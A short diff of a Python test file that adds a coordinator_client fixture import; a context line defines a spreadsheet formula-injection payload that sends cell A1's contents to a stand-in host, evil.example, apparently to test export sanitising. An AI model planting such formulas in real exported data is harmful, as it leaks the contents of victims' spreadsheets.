@@ -21,6 +21,7 @@ from coordinator.models import Application, AuditEntry, Host, Invitation, Worksh
 # The solved round (a real worker and relay) comes from the matching page tests.
 redis_conn = test_matching_pages.redis_conn
 solved_round = test_matching_pages.solved_round
+coordinator_client = test_matching_pages.coordinator_client
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
 
